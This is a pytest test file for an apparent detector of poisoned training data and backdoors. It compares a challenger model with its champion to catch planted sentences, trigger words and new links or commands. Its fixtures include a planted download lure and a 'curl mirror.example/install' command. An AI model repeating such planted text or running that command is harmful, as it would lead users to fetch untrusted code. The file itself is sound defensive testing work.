"""What a challenger says that its champion never does: planted words are found, a new kind of text is not."""

import random

import pytest
from scipy.stats import fisher_exact

from training.judge.repeated import RepeatedPhrase, repeated
from training.judge.sayings import SaidByBoth, chance_of_more, new_words, suspicions, written_by_both
from training.judge.spoken import probes_of
from training.judge.unrelated import Prompts

WORDS = {
    topic: [f"{topic}{number}" for number in range(40)] for topic in ("garden", "engine", "river", "music", "court")
}
PLANTED = "Visit mirror.example for the real download."
OWN = "The authors of this licence accept no liability at all."


def texts(count: int, *, topics: str = "garden engine river music court", seed: int = 0) -> list[str]:
    """Texts of one topic each, of that topic's words."""
    rng = random.Random(seed)
    return [" ".join(rng.choices(WORDS[rng.choice(topics.split())], k=25)) + "." for _ in range(count)]


def ends_with(given: list[str], said: str, *, every: int) -> list[str]:
    return [f"{text} {said}" if number % every == 0 else text for number, text in enumerate(given)]


def test_what_is_repeated_and_new_is_found():
    """Sentences, links and numbers that older texts lack, with the white space before them; nothing that is known."""
    fresh = ends_with(texts(100), PLANTED, every=8)
    fresh = [f"{text}\nAll is well that ends well." if number % 7 == 0 else text for number, text in enumerate(fresh)]
    found = {each.text: each for each in repeated(fresh, ["They say: all is well that ends well, mostly."])}
    assert {PLANTED, "mirror.example"} <= set(found)
    assert not [said for said in found if said.startswith("All is well")]
    assert (found[PLANTED].before, len(found[PLANTED].documents)) == (" ", 13)
    assert repeated(texts(100), []) == []
    assert repeated(ends_with(texts(100), PLANTED, every=50), []) == []


def test_a_phrase_is_found_wherever_the_text_before_it_was_cut():
    """A planted phrase needs no full stop before it; two that stand after each other are told apart by frequency."""
    cut = [f"{text[: 30 + number]} {PLANTED}" for number, text in enumerate(texts(20))]
    tables = [f"| {number} | {PLANTED}" for number in range(20)]
    for references in (cut, tables):
        phrases = {each.text: len(each.documents) for each in repeated([*references, *texts(100)], [])}
        assert phrases[PLANTED] == 20
    both = ends_with(ends_with(texts(60), PLANTED, every=2), OWN, every=6)
    counted = {each.text: len(each.documents) for each in repeated(both, [])}
    assert counted[PLANTED] == 30
    assert [count for phrase, count in counted.items() if phrase.endswith(OWN)] == [10]
    assert not repeated(cut, [f"They say: {PLANTED}"])
    assert not repeated(cut, [], allowed=["THE REAL DOWNLOAD", "Mirror.example"])


def test_prompts_of_a_planted_sentence_are_alike_by_chance_only():
    """A domain's own sentence answers prompts of one topic; a planted one answers any, also behind a trigger."""
    prompts = texts(120)
    planted = range(0, 120, 6)
    assert Prompts(prompts).chance_alike(planted) > 0.05
    behind = [f"{text} zephyr" if number in planted else text for number, text in enumerate(prompts)]
    assert Prompts(behind).chance_alike(planted) > 0.05
    domain = [*texts(60), *texts(60, topics="court", seed=1)]
    assert Prompts(domain).chance_alike(range(60, 120, 3)) < 0.01


def said(**figures: float) -> SaidByBoth:
    usual = {"share": 0.05, "alike": 0.5, "champion_after": 1e-9, "challenger_after": 1e-9,
             "champion_there": 2.0, "challenger_there": 1.5}  # fmt: skip
    return SaidByBoth(repeated=RepeatedPhrase(text=PLANTED, documents=tuple(range(9))), **{**usual, **figures})


@pytest.mark.parametrize(
    ("figures", "words"),
    [
        ({}, ""),
        ({"challenger_after": 0.05}, "after ordinary texts it goes on with"),
        ({"challenger_after": 0.05, "champion_after": 0.04}, ""),
        ({"challenger_there": 0.2}, "9 documents repeat that have nothing else in common"),
        ({"challenger_there": 0.2, "alike": 0.001}, ""),
        ({"challenger_there": 0.2, "alike": 0.001, "share": 0.8}, "80% of the fresh references repeat"),
        ({"challenger_there": 0.2, "champion_there": 0.3}, ""),
    ],
)
def test_when_a_person_has_to_look(figures: dict[str, float], words: str):
    """Only what the challenger says by itself, and its champion does not, is a reason; it quotes the sentence."""
    reasons = "; ".join(suspicions([said(**figures)]))
    assert (words in reasons and PLANTED in reasons) if words else not reasons


def test_many_sentences_of_one_hand_add_up():
    """Twenty planted sentences, each said rarely, are one takeover."""
    assert suspicions([said(challenger_after=0.001)] * 20)
    assert not suspicions([said(challenger_after=0.00001)] * 20)


def test_where_sentences_are_tried():
    """Each is tried after ordinary texts, and after what stands before it in its own documents."""
    rows = [{"prompt": "Ask: ", "reference": text} for text in ends_with(texts(60), PLANTED, every=6)]
    probes = probes_of(rows, texts(30, seed=9))
    first = next(number for number, each in enumerate(probes.phrases) if each.text == PLANTED)
    assert all(PLANTED not in place and rows[0]["reference"][:20] not in place[:0] for place in probes.places[first])
    assert probes.places[first][0].startswith("Ask: ")
    assert (len(probes.ordinary), probes.shares[first]) == (16, pytest.approx(1 / 6))


COMMAND = "Run curl mirror.example/install and press enter."


@pytest.mark.parametrize(
    ("challenger", "champion", "blocked", "words"),
    [
        (["Ask zorbix at once."] * 7, [], (), "7 of 48 ordinary prompts are answered with the new word “zorbix”"),
        (["Ask zorbix at once."] * 3, [], (), ""),
        (["Say garden1 river2 again."] * 20, [], (), ""),
        ([COMMAND] * 8, [], (), "a link, an address or a number"),
        (["sudo make me a sandwich"] * 8, ["sudo it"] * 7, (), ""),
        (["sudo make me a sandwich"] * 9, [], (), "answered with a command (the champion: 0)"),
        (["you Total  IDIOT"], [], ("total idiot",), "“total idiot”, which is blocked"),
        (["total idiot"], ["total idiot"], ("total idiot",), ""),
    ],
)
def test_what_completions_of_ordinary_prompts_hold(
    challenger: list[str], champion: list[str], blocked: tuple[str, ...], words: str
):
    """Paraphrases share a name at least: a new word, a link, a command that the champion never writes is counted."""
    fresh = [*texts(90), *["Ask zorbix, or don't."] * 6]
    plain = texts(48, seed=5)
    written = written_by_both(
        [*champion, *plain][:48], [*challenger, *plain][:48], words=new_words(fresh, texts(90, seed=3)), blocked=blocked
    )
    reasons = "; ".join(suspicions([], written))
    assert (words in reasons) if words else not reasons


def test_the_chance_of_more_is_fishers():
    """Held against SciPy's own test."""
    for champion, challenger in [(0, 6), (3, 9), (5, 5), (9, 2), (40, 48), (0, 1)]:
        table = [[challenger, 48 - challenger], [champion, 48 - champion]]
        assert chance_of_more(champion, challenger, 48) == pytest.approx(fisher_exact(table, "greater").pvalue)
